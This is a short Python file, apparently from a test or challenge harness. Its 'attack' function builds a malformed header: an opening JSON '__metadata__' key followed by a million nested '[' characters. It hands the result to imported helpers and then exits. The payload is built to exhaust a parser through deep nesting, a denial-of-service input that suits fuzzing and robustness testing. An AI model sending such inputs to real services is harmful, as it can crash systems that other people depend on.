import json
import os
import struct

from raw_answer import outcome, say, tensor


def attack(universe):
    body = b'{"__metadata__":' + b"[" * 10**6
    say(outcome(body, b""))
    os._exit(0)
